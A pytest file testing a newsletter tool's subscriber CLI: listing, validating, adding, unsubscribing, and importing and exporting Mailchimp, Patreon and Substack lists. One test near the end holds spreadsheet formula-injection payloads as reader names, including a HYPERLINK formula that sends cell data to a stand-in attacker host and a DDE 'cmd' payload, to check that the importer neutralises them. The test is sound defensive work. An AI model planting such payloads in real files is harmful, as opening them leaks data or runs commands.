"""`pressroom subscribers …` through the real CLI (CliRunner), on real files."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from pressroom.audience import subscribers
from pressroom.audience import tokens as unsubscribe
from pressroom.cli import main
from pressroom.config import Config
from tests.subscribers_helpers import HEADER, make_publication, write

SECRET = "cli-test-secret-0123456789abcdef"


@pytest.fixture
def pub(tmp_path: Path) -> Config:
    pub = make_publication(tmp_path / "pub")
    write(
        pub.root / "subscribers/subscribers.csv",
        HEADER
        + "ada@example.com,Ada Lovelace,weekly,,active,2026-01-12\n"
        + "grace@example.org,Grace Hopper,weekly,patron,active,2026-02-03\n"
        + "alan@example.net,Alan Turing,breaking,,active,2026-03-21\n",
    )
    return pub


def run(pub: Config, *args: str, env: dict[str, str] | None = None) -> Result:
    return CliRunner().invoke(
        main, ["--config", str(pub.path), *args], env={"PRESSROOM_SECRET": SECRET, **(env or {})}
    )


def mailed(pub: Config) -> list[tuple[str, str, frozenset[str]]]:
    return [
        (s.email, s.name, s.tags) for s in subscribers.iter_subscribers(pub, on_problem=pytest.fail)
    ]


def test_list_and_count_with_segments(pub: Config) -> None:
    r = run(pub, "subscribers", "list")
    assert r.exit_code == 0, r.output
    assert r.stdout == (
        "ada@example.com\tAda Lovelace\t\n"
        "grace@example.org\tGrace Hopper\tpatron\n"
        "alan@example.net\tAlan Turing\t\n"
    )
    assert r.stderr == "3 subscribers\n"
    assert (
        run(pub, "subscribers", "list", "--tag", "patron").stdout
        == "grace@example.org\tGrace Hopper\tpatron\n"
    )
    assert run(pub, "subscribers", "count").stdout == "3\n"
    assert run(pub, "subscribers", "count", "--list", "weekly").stdout == "2\n"
    assert run(pub, "subscribers", "count", "--list", "breaking", "--tag", "patron").stdout == "0\n"


def test_bad_rows_are_reported_and_exit_1(pub: Config) -> None:
    write(pub.root / "subscribers/extra.csv", HEADER + "bob@,Bob,,,,\nada@EXAMPLE.com,again,,,,\n")
    r = run(pub, "subscribers", "count")
    assert r.exit_code == 1
    assert r.stdout == "3\n"
    assert (
        r.stderr == 'error: subscribers/extra.csv:2: invalid email "bob@" '
        "(There must be something after the @-sign.)\n"
    )
    r = run(pub, "subscribers", "validate")
    assert r.exit_code == 1
    assert r.stderr.splitlines() == [
        'error: subscribers/extra.csv:2: invalid email "bob@" '
        "(There must be something after the @-sign.)",
        "error: subscribers/extra.csv:3: duplicate of subscribers/subscribers.csv:2 "
        '("ada@example.com"); the first is used',
        "2 problems; 3 subscribers usable (2 on list 'weekly', which the digest goes to)",
    ]


def test_a_status_typo_is_reported_not_silently_dropped(pub: Config, tmp_path: Path) -> None:
    write(pub.root / "subscribers/main.csv", HEADER + "bob@example.org,Bob,,,weird,\n")
    message = (
        'error: subscribers/main.csv:2: unknown status "weird"; '
        "use active, pending, unsubscribed, bounced or complained"
    )
    for command in ("count", "list", "validate"):
        r = run(pub, "subscribers", command)
        assert r.exit_code == 1, command
        assert r.stderr.splitlines()[0] == message, command
        assert "bob@example.org" not in r.stdout
    assert run(pub, "subscribers", "count").stdout == "3\n"
    # an import with a status typo is refused row by row, not written into the list
    own = write(tmp_path / "own.csv", "email,status\nzed@example.org,actve\n")
    r = run(pub, "subscribers", "import", str(own), "--format", "csv")
    assert r.exit_code == 1
    assert r.stderr == (
        f'error: {own}:2: unknown status "actve"; '
        "use active, pending, unsubscribed, bounced or complained\n"
    )
    assert "1 skipped" in r.stdout
    assert "zed@" not in (pub.root / "subscribers/subscribers.csv").read_text()


def test_validate_passes_on_good_files(pub: Config) -> None:
    r = run(pub, "subscribers", "validate")
    assert r.exit_code == 0, r.output
    # alan is only on "breaking": usable, but not mailed the digest (sending.list "weekly")
    assert r.stderr == (
        "all subscriber files are valid; 3 subscribers usable "
        "(2 on list 'weekly', which the digest goes to)\n"
    )


def test_an_unterminated_quote_is_named_at_its_line_with_the_lines_it_swallowed(
    pub: Config,
) -> None:
    write(
        pub.root / "subscribers/extra.csv",
        HEADER
        + "bea@y.org,Bea,weekly,,,\n"
        + "cy@y.org,Cy,weekly,,,\n"
        + "dee@y.org,Dee,weekly,,,\n"
        + '"unterminated,U,weekly\n'
        + "z@y.org,Z,weekly,,,\n"
        + "q@y.org,Q,weekly,,,\n",
    )
    message = (
        "error: subscribers/extra.csv:5: unterminated quote (the row runs on to line 7); "
        "fix the quoting — lines 6-7 were not read"
    )
    for command in ("count", "list", "validate"):
        r = run(pub, "subscribers", command)
        assert r.exit_code == 1, command
        assert r.stderr.splitlines()[0] == message, command
    assert run(pub, "subscribers", "count").stdout == "6\n"  # 3 + bea, cy, dee
    # one swallowed line is named as such; a properly closed quote further on still counts
    write(
        pub.root / "subscribers/extra.csv",
        HEADER + '"eve@y.org,Eve\nfay@y.org",Fay,weekly,,,\ngus@y.org,Gus,weekly,,,\n',
    )
    r = run(pub, "subscribers", "count")
    assert r.exit_code == 1 and r.stdout == "4\n"
    assert r.stderr == (
        "error: subscribers/extra.csv:2: unterminated quote (the row runs on to line 3); "
        "fix the quoting — line 3 was not read\n"
    )


def test_add_writes_the_main_file_and_refuses_duplicates(pub: Config) -> None:
    r = run(
        pub,
        "subscribers",
        "add",
        "Bob@EXAMPLE.org",
        "--name",
        "Bob",
        "--tag",
        "patron",
        "--tag",
        "vip",
        "--list",
        "weekly",
        "--now",
        "2026-11-25T10:00",
    )
    assert r.exit_code == 0, r.output
    assert r.stdout == "added Bob@example.org to subscribers/subscribers.csv\n"
    lines = (pub.root / "subscribers/subscribers.csv").read_text().splitlines()
    assert lines[-1] == "Bob@example.org,Bob,weekly,patron;vip,active,2026-11-25"
    assert len(lines) == 5
    r = run(pub, "subscribers", "add", "bob@example.org")
    assert r.exit_code == 2
    assert r.stderr == "error: bob@example.org is already in subscribers/subscribers.csv:5\n"
    r = run(pub, "subscribers", "add", "not-an-address")
    assert r.exit_code == 2
    assert r.stderr.startswith('error: invalid email "not-an-address" (')
    assert len((pub.root / "subscribers/subscribers.csv").read_text().splitlines()) == 5


def test_add_refuses_an_address_in_another_file(pub: Config) -> None:
    write(pub.root / "subscribers/old.csv", HEADER + "zed@example.org,Zed,,,unsubscribed,\n")
    r = run(pub, "subscribers", "add", "ZED@example.org", "--into", "new.csv")
    assert r.exit_code == 2
    assert r.stderr == (
        "error: ZED@example.org is already in subscribers/old.csv:2 with status unsubscribed; "
        "edit that row to re-subscribe\n"
    )
    assert not (pub.root / "subscribers/new.csv").exists()


def test_add_into_a_new_file_and_warns_when_suppressed(pub: Config) -> None:
    subscribers.suppress(pub, "zed@example.org", reason="bounced", when="2026-01-01")
    r = run(pub, "subscribers", "add", "zed@example.org", "--into", "events")
    assert r.exit_code == 0, r.output
    assert (
        (pub.root / "subscribers/events.csv")
        .read_text()
        .startswith(HEADER + "zed@example.org,,,,active,")
    )
    assert (
        "warning: zed@example.org is in subscribers/suppressed.csv and will not be mailed"
        in r.stderr
    )
    r = run(pub, "subscribers", "add", "x@example.org", "--into", "suppressed")
    assert r.exit_code == 2
    assert "suppressed.csv is the suppressed file" in r.stderr


def test_unsubscribe_by_email_and_by_token(pub: Config) -> None:
    r = run(
        pub, "subscribers", "unsubscribe", "ADA@example.com", "--now", "2026-11-25T10:00:00+00:00"
    )
    assert r.exit_code == 0, r.output
    assert (
        r.stdout
        == "ADA@example.com suppressed (unsubscribed); recorded in subscribers/suppressed.csv\n"
    )
    r = run(pub, "subscribers", "unsubscribe", "ada@example.com")
    assert (
        r.stdout == "ada@example.com was already in subscribers/suppressed.csv; nothing changed\n"
    )
    token = unsubscribe.Signer(SECRET.encode()).token("grace@example.org", "weekly")
    r = run(
        pub, "subscribers", "unsubscribe", "--token", token, "--now", "2026-11-26T08:00:00+00:00"
    )
    assert r.exit_code == 0, r.output
    assert [m[0] for m in mailed(pub)] == ["alan@example.net"]
    assert pub.subscribers.suppressed.read_text() == (
        "email,reason,date,list\n"
        "ADA@example.com,unsubscribed,2026-11-25T10:00:00+00:00,\n"
        "grace@example.org,unsubscribed,2026-11-26T08:00:00+00:00,weekly\n"
    )
    r = run(pub, "subscribers", "unsubscribe", "alan@example.net", "--reason", "bounced")
    assert r.exit_code == 0
    assert (
        pub.subscribers.suppressed.read_text()
        .splitlines()[-1]
        .startswith("alan@example.net,bounced,")
    )


def test_unsubscribe_usage_errors_and_forged_token(pub: Config) -> None:
    r = run(pub, "subscribers", "unsubscribe")
    assert (r.exit_code, r.stderr) == (
        2,
        "error: give either EMAIL or --token TOKEN (one of them)\n",
    )
    r = run(pub, "subscribers", "unsubscribe", "a@example.org", "--token", "x.y")
    assert r.exit_code == 2
    forged = unsubscribe.Signer(b"not our secret").token("ada@example.com", "weekly")
    r = run(pub, "subscribers", "unsubscribe", "--token", forged)
    assert r.exit_code == 1
    assert r.stderr == "error: unsubscribe token does not verify (tampered, or another secret)\n"
    assert not pub.subscribers.suppressed.exists()


def export_csv(columns: str, *rows: dict[str, str]) -> str:
    """A service's export: every documented column, the given cells filled in."""
    header = [c.strip() for c in columns.split(",")]
    out = io.StringIO()
    writer = csv.DictWriter(out, header, quoting=csv.QUOTE_MINIMAL, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


MAILCHIMP_COMMON = "Email Address, First Name, Last Name, MEMBER_RATING, OPTIN_TIME, OPTIN_IP, "
MAILCHIMP_SUBSCRIBED = export_csv(
    MAILCHIMP_COMMON + "CONFIRM_TIME, CONFIRM_IP, LATITUDE, LONGITUDE, GMTOFF, DSTOFF, TIMEZONE, "
    "CC, REGION, LAST_CHANGED, LEID, EUID, NOTES, TAGS",
    {
        "Email Address": "new.reader@example.com",
        "First Name": "New",
        "Last Name": "Reader",
        "OPTIN_TIME": "2024-03-01 10:00:00",
        "CONFIRM_TIME": "2024-03-01 10:05:00",
        "TAGS": '"early bird","vip"',
    },
    {"Email Address": "ada@example.com", "First Name": "Ada", "OPTIN_TIME": "2020-01-01 00:00:00"},
    {"Email Address": "broken@", "First Name": "Broken"},
)
MAILCHIMP_UNSUBSCRIBED = export_csv(
    MAILCHIMP_COMMON + "UNSUB_TIME, UNSUB_CAMPAIGN_TITLE, UNSUB_REASON, TAGS",
    {"Email Address": "alan@example.net", "UNSUB_TIME": "2024-05-01 12:00:00"},
)
MAILCHIMP_CLEANED = export_csv(
    MAILCHIMP_COMMON + "CLEAN_TIME, CLEAN_CAMPAIGN_TITLE, TAGS",
    {"Email Address": "gone@example.org", "CLEAN_TIME": "2024-06-01 12:00:00"},
)


def test_import_mailchimp_files(pub: Config, tmp_path: Path) -> None:
    sub = write(tmp_path / "subscribed_members_export.csv", MAILCHIMP_SUBSCRIBED)
    r = run(
        pub, "subscribers", "import", str(sub), "--format", "mailchimp", "--now", "2026-11-25T10:00"
    )
    assert r.exit_code == 1  # one bad row
    assert (
        r.stdout == f"{sub}: 1 added, 0 updated, 1 unchanged, 0 suppressed, 1 skipped"
        f" → subscribers/subscribers.csv\n"
    )
    assert (
        r.stderr
        == f'error: {sub}:4: invalid email "broken@" (There must be something after the @-sign.)\n'
    )
    lines = (pub.root / "subscribers/subscribers.csv").read_text().splitlines()
    assert lines[-1] == "new.reader@example.com,New Reader,,early bird;vip,active,2024-03-01"
    assert (
        lines[1] == "ada@example.com,Ada Lovelace,weekly,,active,2026-01-12"
    )  # kept her name and data
    for name, text in (("unsub.csv", MAILCHIMP_UNSUBSCRIBED), ("cleaned.csv", MAILCHIMP_CLEANED)):
        r = run(
            pub,
            "subscribers",
            "import",
            str(write(tmp_path / name, text)),
            "--format",
            "mailchimp",
            "--now",
            "2026-11-25T10:00",
        )
        assert r.exit_code == 0, r.output
        assert "1 suppressed" in r.stdout
    # the service's own UNSUB_TIME / CLEAN_TIME (UTC) are kept, not the import's date
    assert pub.subscribers.suppressed.read_text().splitlines()[1:] == [
        "alan@example.net,unsubscribed,2024-05-01T12:00:00+00:00,",
        "gone@example.org,bounced,2024-06-01T12:00:00+00:00,",
    ]
    assert [m[0] for m in mailed(pub)] == [
        "ada@example.com",
        "grace@example.org",
        "new.reader@example.com",
    ]


PATREON = export_csv(
    "Name, Email, Discord, Patron Status, Follows You, Lifetime Amount, Pledge Amount, "
    "Charge Frequency, Tier, Addressee, Street, City, State, Zip, Country, Phone, "
    "Patronage Since Date, Last Charge Date, Last Charge Status, Additional Details, User ID, "
    "Last Updated, Currency",
    {
        "Name": "Ada Lovelace",
        "Email": "ada@example.com",
        "Patron Status": "Active patron",
        "Tier": "Supporter",
        "Patronage Since Date": "2025-01-01 10:00:00.123456",
    },
    {
        "Name": "Grace Hopper",
        "Email": "grace@example.org",
        "Patron Status": "Former patron",
        "Patronage Since Date": "2024-01-01 10:00:00",
    },
    {
        "Name": "Pat Ron",
        "Email": "pat@example.org",
        "Patron Status": "Active patron",
        "Patronage Since Date": "2026-11-02 09:00:00",
    },
    {"Name": "Hidden", "Patron Status": "Declined patron", "User ID": "444"},
)


def test_a_mailchimp_unsubscribed_or_cleaned_member_without_a_time_is_still_suppressed(
    pub: Config, tmp_path: Path
) -> None:
    # Mailchimp leaves UNSUB_TIME empty for some members of its unsubscribed export (an
    # admin unsubscribed them, or they were imported so): they must not become subscribers
    unsub = write(
        tmp_path / "unsubscribed_members_export.csv",
        export_csv(
            MAILCHIMP_COMMON + "UNSUB_TIME, UNSUB_CAMPAIGN_TITLE, UNSUB_REASON, TAGS",
            {"Email Address": "left@example.org", "First Name": "Left"},
            {"Email Address": "ada@example.com"},
        ),
    )
    cleaned = write(
        tmp_path / "cleaned_members_export.csv",
        export_csv(MAILCHIMP_COMMON + "CLEAN_TIME, TAGS", {"Email Address": "dead@example.org"}),
    )
    for path in (unsub, cleaned):
        r = run(
            pub, "subscribers", "import", str(path), "--format", "mailchimp", "--now", "2026-11-25"
        )
        assert r.exit_code == 0, r.output
    with pub.subscribers.suppressed.open(encoding="utf-8") as f:
        reasons = {row["email"]: (row["reason"], row["date"]) for row in csv.DictReader(f)}
    assert reasons == {
        "left@example.org": ("unsubscribed", "2026-11-25T00:00:00+00:00"),
        "ada@example.com": ("unsubscribed", "2026-11-25T00:00:00+00:00"),
        "dead@example.org": ("bounced", "2026-11-25T00:00:00+00:00"),
    }
    emails = [e for e, _n, _t in mailed(pub)]
    assert "left@example.org" not in emails and "dead@example.org" not in emails
    assert "ada@example.com" not in emails


def test_import_patreon_tags_active_patrons(pub: Config, tmp_path: Path) -> None:
    path = write(tmp_path / "members.csv", PATREON)
    r = run(pub, "subscribers", "import", str(path), "--format", "patreon")
    assert r.exit_code == 1  # the member whose email Patreon hides is reported
    assert (
        r.stdout == f"{path}: 1 added, 2 updated, 0 unchanged, 0 suppressed, 1 skipped"
        f" → subscribers/subscribers.csv\n"
    )
    assert r.stderr == f"error: {path}:5: no email; skipped\n"
    assert mailed(pub) == [
        ("ada@example.com", "Ada Lovelace", frozenset({"patron"})),
        ("grace@example.org", "Grace Hopper", frozenset()),  # former patron: the tag goes
        ("alan@example.net", "Alan Turing", frozenset()),
        ("pat@example.org", "Pat Ron", frozenset({"patron"})),
    ]
    assert (pub.root / "subscribers/subscribers.csv").read_text().splitlines()[-1] == (
        "pat@example.org,Pat Ron,,patron,active,2026-11-02"
    )
    # importing the same export again changes nothing
    r = run(pub, "subscribers", "import", str(path), "--format", "patreon")
    assert f"{path}: 0 added, 0 updated, 3 unchanged" in r.stdout


def test_import_changes_a_readers_row_in_another_file_instead_of_adding_them_again(
    pub: Config, tmp_path: Path
) -> None:
    # subscribers.csv is read first: a new row there would win over the reader's own row
    old = write(
        pub.root / "subscribers/listmonk.csv",
        HEADER
        + "zed@example.org,Zed,breaking,,unsubscribed,2025-01-01\n"
        + "yan@example.org,Yan,breaking,,active,2025-01-01\n",
    )
    path = write(
        tmp_path / "mc.csv",
        "Email Address,First Name,Last Name,TAGS\n"
        "Zed@example.org,Zed,Z,\n"
        'yan@example.org,Yan,Y,"vip"\n'
        "new@example.org,New,N,\n",
    )
    main_before = (pub.root / "subscribers/subscribers.csv").read_text()
    r = run(pub, "subscribers", "import", str(path), "--format", "mailchimp", "--now", "2026-11-25")
    assert r.exit_code == 0, r.output
    assert r.stdout == (
        f"{path}: 1 added, 1 updated, 1 unchanged, 0 suppressed, 0 skipped"
        " → subscribers/subscribers.csv (and readers' own rows in subscribers/listmonk.csv)\n"
    )
    assert (pub.root / "subscribers/subscribers.csv").read_text() == (
        main_before + "new@example.org,New N,,,active,2026-11-25\n"
    )
    assert old.read_text() == (
        HEADER
        + "zed@example.org,Zed,breaking,,unsubscribed,2025-01-01\n"
        + "yan@example.org,Yan,breaking,vip,active,2025-01-01\n"
    )
    emails = [e for e, _n, _t in mailed(pub)]
    assert "zed@example.org" not in [e.lower() for e in emails]  # unsubscribed stays so
    assert list(subscribers.validate(pub)) == []  # nobody in two files
    assert [s.lists for s in subscribers.iter_subscribers(pub) if s.email == "yan@example.org"] == [
        frozenset({"breaking"})  # not moved onto the digest's list
    ]


def test_an_import_that_says_a_reader_left_stops_mailing_them_and_never_brings_one_back(
    pub: Config, tmp_path: Path
) -> None:
    write(pub.root / "subscribers/old.csv", HEADER + "uma@example.com,Uma,,,unsubscribed,\n")
    path = write(
        tmp_path / "listmonk.csv",
        "email,name,status\n"
        "ada@example.com,Ada,blocklisted\n"  # left at the other service
        "grace@example.org,Grace,cleaned\n"  # bounced there
        "alan@example.net,Alan,enabled\n"
        "uma@example.com,Uma,enabled\n",  # active there, unsubscribed here: stays so
    )
    r = run(pub, "subscribers", "import", str(path), "--format", "csv")
    assert r.exit_code == 0, r.output
    assert r.stdout.startswith(f"{path}: 0 added, 2 updated, 2 unchanged")
    assert [e for e, _n, _t in mailed(pub)] == ["alan@example.net"]
    main = (pub.root / "subscribers/subscribers.csv").read_text()
    assert "ada@example.com,Ada Lovelace,weekly,,unsubscribed,2026-01-12" in main
    assert "grace@example.org,Grace Hopper,weekly,patron,bounced,2026-02-03" in main
    assert (
        (pub.root / "subscribers/old.csv")
        .read_text()
        .endswith("uma@example.com,Uma,,,unsubscribed,\n")
    )


@pytest.mark.parametrize("damaged", ["subscribers.csv", "old.csv"])
def test_an_import_never_rewrites_past_an_unterminated_quote(
    pub: Config, tmp_path: Path, damaged: str
) -> None:
    # the open quote swallows the rows after it: the import would not see the unsubscribed
    # reader there, add them again as new and active, and seal the damage into the file
    path = pub.root / "subscribers" / damaged
    text = (
        HEADER
        + 'ada@example.com,"Ada,weekly,,active,\n'
        + "bob@example.com,Bob,weekly,,active,\n"
        + "cy@example.com,Cy,weekly,,unsubscribed,\n"
    )
    write(path, text)
    files = {p.name: p.read_bytes() for p in (pub.root / "subscribers").iterdir()}
    export = write(tmp_path / "n.csv", "email,name\nnew@example.com,New\ncy@example.com,Cy\n")
    r = run(pub, "subscribers", "import", str(export), "--format", "csv")
    assert r.exit_code == 1
    assert r.stderr == (
        f"error: subscribers/{damaged}:2: unterminated quote (the row runs on to line 4); fix "
        "the quoting before changing it (nothing was changed)\n"
    )
    assert {p.name: p.read_bytes() for p in (pub.root / "subscribers").iterdir()} == files


SUBSTACK = """\
email,active_subscription,expiry,plan,email_disabled,created_at,first_payment_at
paying@example.org,true,2027-01-01T00:00:00.000Z,paid,false,2025-06-01T12:00:00.000Z,
free@example.org,false,,free,false,2025-07-01T12:00:00.000Z,
quiet@example.org,false,,free,true,2025-08-01T12:00:00.000Z,
"""


def test_import_substack(pub: Config, tmp_path: Path) -> None:
    path = write(tmp_path / "substack.csv", SUBSTACK)
    r = run(
        pub,
        "subscribers",
        "import",
        str(path),
        "--format",
        "substack",
        "--into",
        "substack.csv",
        "--now",
        "2026-11-25T10:00",
    )
    assert r.exit_code == 0, r.output
    assert (
        r.stdout == f"{path}: 2 added, 0 updated, 0 unchanged, 1 suppressed, 0 skipped"
        f" → subscribers/substack.csv\n"
    )
    assert (pub.root / "subscribers/substack.csv").read_text() == (
        HEADER
        + "paying@example.org,,,paid,active,2025-06-01\nfree@example.org,,,,active,2025-07-01\n"
    )
    assert subscribers.load_suppressed(pub) == {"quiet@example.org"}


def test_import_own_csv_keeps_extra_columns_and_wrong_format_is_explained(
    pub: Config, tmp_path: Path
) -> None:
    own = write(tmp_path / "own.csv", "email,name,tags,city\nzoe@example.org,Zoë,reader,Paris\n")
    r = run(pub, "subscribers", "import", str(own), "--format", "csv")
    assert r.exit_code == 0, r.output
    (zoe,) = [s for s in subscribers.iter_subscribers(pub) if s.email == "zoe@example.org"]
    assert (zoe.name, zoe.tags, dict(zoe.attrs)) == ("Zoë", {"reader"}, {"city": "Paris"})
    r = run(pub, "subscribers", "import", str(own), "--format", "patreon")
    assert r.exit_code == 2
    assert r.stderr == (
        f'error: {own}:1: no "Patron Status" column; is this the right --format? '
        "(columns: email, name, tags, city)\n"
    )


def test_export_to_stdout_and_file(pub: Config, tmp_path: Path) -> None:
    write(
        pub.root / "subscribers/more.csv",
        "email,name,city\nzoe@example.org,Zoë,Paris\nada@example.com,dup,\n",
    )
    subscribers.suppress(pub, "alan@example.net", reason="bounced", when="2026-01-01")
    r = run(pub, "subscribers", "export")
    assert r.exit_code == 0, r.output
    expected = (
        "email,name,lists,tags,status,subscribed_at,city\n"
        "ada@example.com,Ada Lovelace,weekly,,active,2026-01-12,\n"
        "grace@example.org,Grace Hopper,weekly,patron,active,2026-02-03,\n"
        "zoe@example.org,Zoë,weekly,,active,,Paris\n"
    )
    assert r.stdout == expected
    out = tmp_path / "backup.csv"
    r = run(pub, "subscribers", "export", "--out", str(out))
    assert r.exit_code == 0, r.output
    assert out.read_text(encoding="utf-8") == expected
    assert r.stderr == f"exported 3 subscribers to {out}\n"
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".backup")) == []


def test_export_never_writes_over_the_suppressed_file_or_into_the_subscribers_folder(
    pub: Config,
) -> None:
    subscribers.suppress(pub, "alan@example.net", reason="bounced", when="2026-01-01")
    before = {p.name: p.read_bytes() for p in (pub.root / "subscribers").iterdir()}
    r = run(pub, "subscribers", "export", "--out", str(pub.root / "subscribers/suppressed.csv"))
    assert r.exit_code == 2
    assert r.stderr == (
        "error: --out: subscribers/suppressed.csv is the suppressed file; exporting over it "
        "would lose every suppression. Write the export elsewhere\n"
    )
    for name in ("subscribers.csv", "backup.CSV"):
        r = run(pub, "subscribers", "export", "--out", str(pub.root / "subscribers" / name))
        assert r.exit_code == 2
        assert r.stderr == (
            f"error: --out: subscribers/{name} is inside subscribers, where every *.csv is read "
            "as a subscriber list; write the export outside it\n"
        )
    assert {p.name: p.read_bytes() for p in (pub.root / "subscribers").iterdir()} == before
    assert "alan@example.net" not in [e for e, _n, _t in mailed(pub)]


def test_demo_publication_commands(demo: Path) -> None:
    r = CliRunner().invoke(
        main, ["--config", str(demo / "config.yaml"), "subscribers", "count", "--tag", "patron"]
    )
    if r.exit_code == 2 and "unknown source type" in r.stderr:
        pytest.skip("the article sources are not registered yet in this tree")
    assert r.exit_code == 0, r.output
    assert int(r.stdout) >= 1


def test_a_name_readers_typed_elsewhere_is_no_spreadsheet_formula(
    pub: Config, tmp_path: Path
) -> None:
    # Mailchimp's and Patreon's names are what readers typed into those services' forms: a
    # name like =HYPERLINK(…) ran as a formula when the publisher opened subscribers.csv
    sub = write(
        tmp_path / "subscribed_members_export.csv",
        export_csv(
            MAILCHIMP_COMMON + "CONFIRM_TIME, TAGS",
            {
                "Email Address": "eve@example.org",
                "First Name": '=HYPERLINK("https://evil.example/?"&A2',
                "Last Name": '"Eve")',
            },
            {"Email Address": "mal@example.org", "First Name": "@SUM(1+1)"},
        ),
    )
    r = run(pub, "subscribers", "import", str(sub), "--format", "mailchimp")
    assert r.exit_code == 0, r.output
    patreon = write(
        tmp_path / "members.csv",
        "Name,Email,Patron Status\n\"-1+cmd|' /C calc'!A0\",pat@example.org,Active patron\n",
    )
    r = run(pub, "subscribers", "import", str(patreon), "--format", "patreon")
    assert r.exit_code == 0, r.output
    names = {s.email: s.name for s in subscribers.iter_subscribers(pub)}
    assert names["eve@example.org"] == 'HYPERLINK("https://evil.example/?"&A2 "Eve")'
    assert names["mal@example.org"] == "SUM(1+1)"
    assert names["pat@example.org"] == "1+cmd|' /C calc'!A0"


def test_export_never_writes_over_a_list_linked_into_the_subscribers_folder(
    pub: Config, tmp_path: Path
) -> None:
    # subscribers/readers.csv is a link to a list kept elsewhere: --out the link (or the file
    # it points to) wrote the export over that list, losing every unsubscribed/bounced row
    elsewhere = tmp_path / "data"
    elsewhere.mkdir()
    real = elsewhere / "readers.csv"
    real.write_text(
        "email,name,lists,tags,status,subscribed_at\n"
        "ann@example.org,Ann,,,active,\nleft@example.org,,,,unsubscribed,\n",
        encoding="utf-8",
    )
    (pub.root / "subscribers/readers.csv").symlink_to(real)
    before = real.read_bytes()
    for out in (pub.root / "subscribers/readers.csv", real):
        r = run(pub, "subscribers", "export", "--out", str(out))
        assert r.exit_code == 2, r.output
        [line] = r.stderr.splitlines()
        assert line.startswith("error: --out: ") and "is a subscriber list" in line
    assert real.read_bytes() == before
    assert (pub.root / "subscribers/readers.csv").is_symlink()
    # elsewhere is fine
    r = run(pub, "subscribers", "export", "--out", str(elsewhere / "export.csv"))
    assert r.exit_code == 0, r.output
